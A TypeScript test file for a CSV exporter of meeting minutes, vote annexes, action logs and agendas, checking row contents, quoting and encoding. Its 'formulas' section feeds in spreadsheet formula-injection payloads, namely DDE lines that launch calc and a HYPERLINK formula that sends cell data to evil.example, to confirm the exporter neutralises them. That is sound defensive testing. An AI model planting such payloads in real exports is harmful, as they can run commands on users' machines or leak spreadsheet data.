import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { positionWords, type DocumentKind } from '../../../core/contract/words.ts'
import { cleanText } from '../../../core/documents/clean-text.ts'
import { csvTable } from '../../../core/documents/csv-tables.ts'
import { neutralise, toCsv } from '../../../core/documents/to-csv.ts'
import type { MeetingRecord } from '../../../core/minutes/record-types.ts'
import { readCsv } from './read-csv.ts'
import { emptyMeeting, meeting } from './written.ts'

const csv = (kind: DocumentKind, record: MeetingRecord = meeting()) => toCsv(csvTable(kind, record))

/** Rows by the names of their columns. */
function rows(kind: DocumentKind, record?: MeetingRecord): Record<string, string>[] {
  const [header = [], ...body] = readCsv(csv(kind, record))
  return body.map((fields) => {
    expect(fields).toHaveLength(header.length)
    return Object.fromEntries(header.map((name, index) => [name, fields[index] ?? '']))
  })
}

describe('the CSV of the votes', () => {
  it('has one row for each position of every vote, superseded ones too', () => {
    const record = meeting()
    const expected = record.items.flatMap((item) =>
      item.questions.flatMap((question) =>
        question.rounds.flatMap((round) =>
          round.positions.map((position) => [
            item.fullLabel,
            question.text,
            String(round.number),
            round.state,
            position.initials,
            positionWords[position.value].name,
          ]),
        ),
      ),
    )
    const found = rows('vote-annex', record)
    expect(
      found.map((row) =>
        ['item', 'question', 'round', 'state', 'initials', 'position'].map((name) => row[name]),
      ),
    ).toEqual(expected)
    expect(found).toHaveLength(6 * 13)
    expect(rows('minutes', record)).toEqual(found)
  })

  it('tells who exercised a vote, its constituency, seat, rule, result and corrections', () => {
    const found = rows('vote-annex')
    expect(found.find(({ initials, proposal }) => initials === 'ST' && proposal === '0597')).toEqual({
      meeting: 'UNC Modification Panel 199',
      item: '199.9 (a)',
      proposal: '0597',
      question: 'Should 0597 be implemented?',
      option: '',
      objective: '',
      round: '1',
      state: 'closed',
      constituency: 'Transporters',
      seat: 'Transporter representative 5',
      initials: 'ST',
      'exercised by': 'QR',
      position: 'For',
      'option named': '',
      votes: '1',
      'recorded at': '2016-12-15T11:43:00.000+00:00',
      'corrected from': '',
      'correction reason': '',
      rule: 'majority of votes exercisable by those present',
      result: 'As determined',
    })
    expect(found.filter((row) => row['corrected from'] !== '')).toMatchObject([
      {
        initials: 'KL',
        position: 'Against',
        'corrected from': 'For',
        'correction reason': 'KL had been misheard',
      },
    ])
  })
})

describe('the CSV of actions and agenda', () => {
  it('has one row for each action with its updates', () => {
    const found = rows('action-log')
    expect(found.map(({ reference, status }) => [reference, status])).toEqual([
      ['PAN 11/01', 'Closed'],
      ['PAN 11/02', 'Carried forward'],
      ['PAN 12/01', 'Open'],
      ['PAN 12/02', 'Open'],
    ])
    expect(found[0]).toMatchObject({
      year: '2016',
      'raised at meeting': '198',
      'due on': '2016-12-15',
      'closed on': '2016-12-15',
      'updates at this meeting': '2016-12-15: The comparison was published on 9 December 2016.',
    })
    expect(found[3]).toMatchObject({
      owners: 'PC; Joint Office',
      'due on': '',
      due: 'Meeting 200',
      item: '199.6 (b)',
    })
  })

  it('has one row for each item', () => {
    const found = rows('agenda')
    expect(found.map(({ item }) => item)).toEqual(meeting().items.map(({ fullLabel }) => fullLabel))
    expect(found[7]).toMatchObject({
      purpose: 'For decision',
      'planned minutes': '20',
      late: 'late',
      papers: '199/6b Modification 0621A v0.3',
    })
    const onward = found.filter((row) => row['goes to'] !== '')
    expect(onward.map((row) => [row['item'], row['outcome'], row['goes to']])).toEqual([
      ['199.7', 'Deferred', 'meeting 200, 2017-01-19'],
      ['199.10', 'Not reached', 'next meeting'],
    ])
  })

  it('of an empty meeting has its heading row', () => {
    for (const kind of ['minutes', 'agenda', 'vote-annex', 'action-log'] as const) {
      expect(readCsv(csv(kind, emptyMeeting()))).toHaveLength(1)
    }
  })
})

describe('its form', () => {
  it('is UTF-8 with its mark, CRLF, every field quoted', () => {
    const text = csv('action-log')
    expect(text.startsWith('\ufeff"reference","year",')).toBe(true)
    expect(text.endsWith('"\r\n')).toBe(true)
    for (const line of text.slice(1).trimEnd().split('\r\n'))
      expect(line).toMatch(/^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*$/)
  })

  it('reads back as it was written, whatever the text', () => {
    fc.assert(
      fc.property(
        fc.array(fc.string({ unit: 'binary', maxLength: 30 }), { minLength: 3, maxLength: 3 }),
        (texts) => {
          const columns = texts.map((_text, index) => ({ header: `c${index}`, kind: 'text' as const }))
          const [, row] = readCsv(toCsv({ columns, rows: [texts] }))
          expect(row).toEqual(texts.map(neutralise))
          expect(row?.map((field) => field.replaceAll("'", ''))).toEqual(
            texts.map((text) => cleanText(text).replaceAll("'", '')),
          )
        },
      ),
      { numRuns: 1000 },
    )
  })
})

describe('formulas', () => {
  const invisible = [
    '',
    ' ',
    '\t',
    '\u00a0',
    '\u200b',
    '\ufeff',
    '\u2060',
    '\u3000',
    '\u00ad',
    '\u202e',
    ' \u200b\t\u00a0',
  ]
  const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '−']

  it.each(signs)('that begin with %s are neutralised, whatever stands before it', (sign) => {
    for (const before of invisible) {
      for (const lead of ['', 'text\n', 'text\r\n', 'text\r', 'text\u2028', '\n\n', 'text;']) {
        const written = neutralise(`${lead}${before}${sign}1+1`)
        const clean = cleanText(`${lead}${before}${sign}1+1`)
        const at = cleanText(lead).length
        expect(written, JSON.stringify([lead, before])).toBe(`${clean.slice(0, at)}'${clean.slice(at)}`)
      }
    }
  })

  it.each([
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '-2+3+cmd|" /C calc"!A0',
    '\t=1',
    '\u0000=1',
    '\u001f\u200f=1',
    '"=1',
  ])('%j is no formula in any field of a document', (payload) => {
    const record = meeting(({ items, actions }) => {
      for (const item of items) {
        item.title = payload
        item.outcomeReason = `done\n${payload}`
      }
      for (const action of [...actions.raised, ...actions.carriedIn]) {
        action.text = payload
        action.owners = [payload, payload]
      }
    })
    for (const kind of ['agenda', 'action-log'] as const) {
      for (const field of readCsv(csv(kind, record)).flat()) {
        for (const line of field.split(/[\n;]/)) expect(line).not.toMatch(/^[\s\p{Cf}]*[=+\-@]/u)
      }
    }
  })

  it('leave ordinary words and numbers alone', () => {
    for (const text of ['a-b', 'x=1', 'me@example', '1+1', '', '–', '✓', '; then'])
      expect(neutralise(text)).toBe(text)
    const columns = [
      { header: 'n', kind: 'number' as const },
      { header: 't', kind: 'text' as const },
    ]
    expect(
      readCsv(
        toCsv({
          columns,
          rows: [
            ['-5', '-5'],
            ['=5', '5'],
          ],
        }),
      ).slice(1),
    ).toEqual([
      ['-5', "'-5"],
      ["'=5", '5'],
    ])
  })

  it('in a field full of white space take no time', () => {
    const started = performance.now()
    for (const text of ['\t', '\ufeff', '\n\t', ' \u200b', '\u2028']) neutralise(`${text.repeat(100_000)}x`)
    expect(performance.now() - started).toBeLessThan(2000)
  })
})
